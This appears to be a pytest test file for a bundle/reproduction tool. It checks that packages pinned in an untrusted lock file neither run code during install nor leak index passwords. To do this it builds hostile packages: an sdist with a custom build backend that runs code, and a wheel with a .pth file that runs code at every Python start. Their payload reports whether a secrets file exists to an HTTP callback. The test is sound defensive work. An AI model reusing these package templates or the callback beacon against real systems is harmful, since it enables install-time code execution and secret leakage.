"""A bundle whose lock is not the reader's own: what it pins is installed, and does not run where the network is."""

from __future__ import annotations

import hashlib
import http.server
import io
import tarfile
import threading
import zipfile

import pytest

from tests.engine.numbers import ODD, plant, repeated
from tests.engine.planted import ID, Planted
from tests.engine.test_bundle import LOCK, contents, rewrite

TOKEN = "token-7c2e41aa"
TELL = """
try:
    import urllib.request
    urllib.request.urlopen("ADDRESS/told?" + str(__import__("os").path.exists("/run/secrets/index")), timeout=5).read()
except OSError:
    pass
"""


def sdist(code):
    """(file name, contents) of a source distribution whose build runs `code`."""
    files = {
        "evil-1.0/backend.py": f"{code}\ndef build_wheel(*more): raise SystemExit(1)\n",
        "evil-1.0/pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
        '[project]\nname = "evil"\nversion = "1.0"\n',
        "evil-1.0/PKG-INFO": "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n",
    }
    data = io.BytesIO()
    with tarfile.open(fileobj=data, mode="w:gz") as archive:
        for name, text in files.items():
            member = tarfile.TarInfo(name)
            member.size = len(text)
            archive.addfile(member, io.BytesIO(text.encode()))
    return "evil-1.0.tar.gz", data.getvalue()


def wheel(code):
    """(file name, contents) of a wheel that runs `code` whenever the Python starts that it is installed for."""
    files = {
        "evil.pth": f"import os; exec({code!r})\n",
        "evil-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n",
        "evil-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        "evil-1.0.dist-info/RECORD": "",
    }
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as archive:
        for name, text in files.items():
            archive.writestr(name, text)
    return "evil-1.0-py3-none-any.whl", data.getvalue()


@pytest.fixture
def index():
    """(address, files to serve, what was asked for with which password)"""
    files, asked = {}, []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append((self.path, self.headers.get("Authorization", "")))
            name = self.path.strip("/").rpartition("/")[2]
            if self.path.startswith("/simple/evil"):
                links = [f'<a href="/f/{n}#sha256={hashlib.sha256(d).hexdigest()}">{n}</a>' for n, d in files.items()]
                body, kind = "".join(links).encode(), "text/html"
            elif name in files:
                body, kind = files[name], "application/octet-stream"
            else:
                self.send_error(404)
                return
            self.send_response(200)
            self.send_header("Content-Type", kind)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        do_HEAD = do_GET

        def log_message(self, *arguments):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"127.0.0.1:{server.server_port}", files, asked
    server.shutdown()
    server.server_close()


@pytest.mark.parametrize(("make", "status"), [(sdist, 6), (wheel, 1)])
def test_what_it_pins_does_not_run_and_gets_no_password(
    container_engine, working, tmp_path, locks, venvs, index, make, status
):
    address, files, asked = index
    failed = plant(Planted(tmp_path / "failed", working("venv")).plant(locks, venvs))
    assert failed.run().status == 1
    assert failed.do("repro", ODD, "--bundle", str(tmp_path / "whole.tar.gz")).status == 0
    head, parts = contents(tmp_path / "whole.tar.gz")
    name, data = make(TELL.replace("ADDRESS", f"http://{address}"))
    files[name] = data
    parts[LOCK] += f"evil==1.0 \\\n    --hash=sha256:{hashlib.sha256(data).hexdigest()}\n".encode()
    rewrite(tmp_path / "evil.tar.gz", head, parts)
    reader = Planted(tmp_path / "reader", container_engine).plant(locks)
    done = reader.do("repro", str(tmp_path / "evil.tar.gz"), UV_INDEX=f"http://user:{TOKEN}@{address}/simple")
    try:
        assert done.status == status, done.out + done.err
        assert [path for path, _ in asked if "evil" in path], "the index was not asked"
        assert not [path for path, _ in asked if "told" in path], "what the lock pins has run in the build"
        assert not [word for _, word in asked if word], "the index was told the password"
        if status == 1:
            (now,) = repeated(reader)
            assert now.image.startswith(f"localhost/carryover/{ID}:") and "7 is odd" in now.reason
        assert reader.left() == []
    finally:
        reader.remove_images()
